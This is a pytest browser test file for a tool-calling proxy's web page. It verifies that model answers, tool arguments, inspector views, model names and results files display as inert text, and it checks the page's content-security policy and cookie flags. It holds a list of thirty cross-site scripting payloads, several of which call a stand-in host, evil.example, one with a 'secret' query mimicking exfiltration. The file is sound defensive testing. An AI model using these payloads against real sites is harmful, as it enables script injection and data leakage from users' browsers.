"""What a model, a client or a tool writes stays text: thirty payloads in every field; no request leaves the server."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.page.conftest import unfold, watched
from tests.page.http_requests import asked
from tests.page.page_server import Served, served
from tests.page.test_chat import FIELD, ask
from toolspeak.core.types import JSONObject, Tool
from toolspeak.engine.planning.probe_results import ProbeFinding, ProbeResult
from toolspeak.server.proxy.tool_loop.loop import LoopTools
from toolspeak.server.proxy.upstream_router import PAGE
from toolspeak.tools.base import CallContext, ToolOutput

pytestmark = [pytest.mark.system("browser"), pytest.mark.requirement("R-T16")]

OUTSIDE = "https://evil.example"
PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={OUTSIDE}/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe srcdoc='<img src={OUTSIDE}/b>'></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    f"![x]({OUTSIDE}/pixel.png?secret=1)",
    f"![x]({OUTSIDE}/pixel.png 'title')",
    f"[![x]({OUTSIDE}/c.png)]({OUTSIDE})",
    f"<link rel=stylesheet href={OUTSIDE}/d.css>",
    f"<style>@import '{OUTSIDE}/e.css';</style>",
    f"<style>body{{background:url({OUTSIDE}/f)}}</style>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}'>",
    f"<base href={OUTSIDE}>",
    f"<form action={OUTSIDE}><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    f"<video src={OUTSIDE}/g.mp4 onerror=alert(1)></video>",
    f"<object data={OUTSIDE}/h></object>",
    f"<embed src={OUTSIDE}/i>",
    "`<script>alert(1)</script>` **<img src=x onerror=alert(1)>**",
    "{{constructor.constructor('alert(1)')()}}</title></textarea></pre><script>alert(1)</script>",
]
#: Elements that no text may bring into the page.
FOREIGN = "main script, main img, main iframe, main object, main embed, main video, main link, main style, main base, main meta, main svg[onload], main form[action], main a[href^=javascript], main [onerror], main [onload], main [onfocus], main [ontoggle]"


def inert(page: Any, faults: list[str]) -> None:
    page.wait_for_timeout(50)  # what would run runs by now
    assert page.locator(FOREIGN).count() == 0
    assert not faults


def test_there_are_thirty():
    assert len(PAYLOADS) == 30


def test_answers_questions_and_results_in_the_chat_are_text(page: Any, server: Served, faults: list[str]):
    for number, payload in enumerate(PAYLOADS):
        server.script.more[f"payload {number}."] = payload
        exchange = ask(page, f"payload {number}. {payload}")
        assert payload in exchange.locator(".bubble").inner_text()
        inert(page, faults)
    everything = "\n\n".join(PAYLOADS)
    server.script.more["all of them"] = (
        f"# {everything}\n\n- {everything}\n\n> {everything}\n\n| a |\n|---|\n| {everything} |"
    )
    ask(page, "all of them")
    inert(page, faults)


def test_arguments_and_results_of_tools_are_text(page: Any, server: Served, faults: list[str]):
    page.click(".tools summary")
    own = [{"name": "own", "description": PAYLOADS[0], "parameters": {"type": "object", "properties": {"a": {}}}}]
    page.get_by_label("Your own tools (JSON Schema)").fill(json.dumps(own))
    page.click(".tools summary")
    server.script.calls["everything"] = ("own", {"a": PAYLOADS})
    page.fill(FIELD, "everything")
    page.press(FIELD, "Enter")
    page.locator(".answer form textarea").fill("sunny " + " ".join(PAYLOADS))
    inert(page, faults)
    page.get_by_role("button", name="Send result").click()
    page.locator(".about").wait_for()
    unfold(page.locator("details.round summary"))
    inert(page, faults)
    page.get_by_label("Your own tools").first.evaluate("field => field.closest('details').open = true")
    page.get_by_label("Your own tools").first.fill("".join(PAYLOADS))  # no JSON: the error quotes it
    inert(page, faults)


def test_the_inspector_shows_payloads_as_text(page: Any, server: Served, faults: list[str]):
    everything = " ".join(PAYLOADS)
    call = json.dumps({"name": everything, "arguments": {everything: everything}})
    server.script.more["hostile"] = (
        f"{everything}\n<think>{everything}</think>\n<tool_call>{call}</tool_call>\n{everything}"
    )
    tools = [{"type": "function", "function": {"name": "clock", "description": everything}}]
    identifier = asked(server, f"hostile {everything}", tools=tools, user=everything)["id"]
    page.goto(f"{server.url}/#/requests/{identifier}")
    page.locator(".one").wait_for()
    for summary in page.locator(".one summary").all():
        unfold(summary)
    for summary in page.locator(".one details details summary").all():
        unfold(summary)
    assert PAYLOADS[0] in page.locator(".one").inner_text()
    inert(page, faults)


def test_names_of_models_are_text(page: Any, server: Served, faults: list[str]):
    for payload in PAYLOADS:
        page.get_by_role("combobox", name="Model", exact=True).select_option("Other…")
        page.get_by_label("Model name").fill(payload)
        ask(page, "hello")
    page.goto(f"{server.url}/#/requests")
    page.locator(".rows-row").first.click()
    page.locator(".one").wait_for()
    inert(page, faults)
    page.goto(f"{server.url}/#/dashboard")
    page.locator(".tiles").wait_for()
    inert(page, faults)


def test_results_from_a_file_are_text(page: Any, server: Served, faults: list[str], tmp_path: Any):
    everything = " ".join(PAYLOADS)
    score = {"cases": 1, "correct": 1, "share": 1, "low": 0, "high": 1, "errors": 0}
    report = {"model": everything, "suite": everything, "when": everything, "complete": True}
    file = tmp_path / "results.json"
    file.write_text(json.dumps({**report, "rows": [{"label": everything, "scores": dict.fromkeys(PAYLOADS, score)}]}))
    page.goto(f"{server.url}/#/evaluate")
    page.get_by_label("Open results.json").set_input_files(str(file))
    page.locator("figure.chart").wait_for()
    inert(page, faults)


def test_what_probes_found_is_text(browser: Any, faults: list[str]):
    findings = tuple(ProbeFinding(payload, payload, payload) for payload in PAYLOADS)
    verdict = ProbeResult({"system_role": True}, findings, requests=len(PAYLOADS))
    with served(verdict=verdict) as server:
        context = browser.new_context()
        page = watched(context, server, faults)
        page.goto(server.link())
        page.wait_for_selector(".composer")
        page.goto(f"{server.url}/#/models")
        unfold(page.locator(".model").first.locator("summary").get_by_text("Probe results"))
        for summary in page.locator(".model summary").all()[1:]:
            unfold(summary)
        assert page.locator(".model").first.locator("tbody tr").count() == len(PAYLOADS)
        assert PAYLOADS[0] in page.locator(".model tbody").first.inner_text()
        assert "Learned in use" in page.locator(".model").first.inner_text()
        inert(page, faults)
        context.close()


class Hostile:
    """A tool of the server, as a stranger describes it and answers for it."""

    def __init__(self) -> None:
        everything = " ".join(PAYLOADS)
        self.tool = Tool("hostile_tool", everything, {"type": "object"})

    async def run(self, arguments: JSONObject, context: CallContext) -> ToolOutput:
        return ToolOutput("sunny " + " ".join(PAYLOADS))


def test_what_tools_of_the_server_say_is_text(browser: Any, faults: list[str]):
    with served(loops=lambda: {PAGE: LoopTools([Hostile()])}) as server:
        server.script.calls["everything"] = ("hostile_tool", {"a": PAYLOADS})
        context = browser.new_context()
        page = watched(context, server, faults)
        page.goto(server.link())
        page.click(".tools summary")
        page.get_by_label("hostile_tool").check()
        inert(page, faults)
        page.keyboard.press("Escape")
        exchange = ask(page, "everything")
        unfold(exchange.locator("details.round summary"))
        assert PAYLOADS[0] in exchange.inner_text()
        inert(page, faults)
        context.close()


@pytest.mark.requirement("R-T7")
def test_the_policy_of_the_page_lets_nothing_in_and_nobody_around_it(page: Any, server: Served, faults: list[str]):
    answer = page.request.get(server.url, headers={"accept": "text/html"})
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("default-src 'self'; frame-ancestors 'none'")
    assert "unsafe" not in policy
    ran = page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s); return window.ran; }"
    )
    assert ran is None
    assert "Content Security Policy" in faults.pop()


@pytest.mark.requirement("R-T7")
def test_without_a_session_nothing_is_told_and_a_code_opens_one(browser: Any, server: Served):
    context = browser.new_context()
    page = context.new_page()
    page.goto(server.url)
    page.get_by_label("One-time link or admin key").fill("wrong")
    page.get_by_role("button", name="Sign in").click()
    page.locator(".notice.bad").wait_for()
    page.get_by_label("One-time link or admin key").fill(server.link())
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("heading", name="Tool calling for any model").wait_for()
    (cookie,) = context.cookies()
    assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Strict")
    context.close()
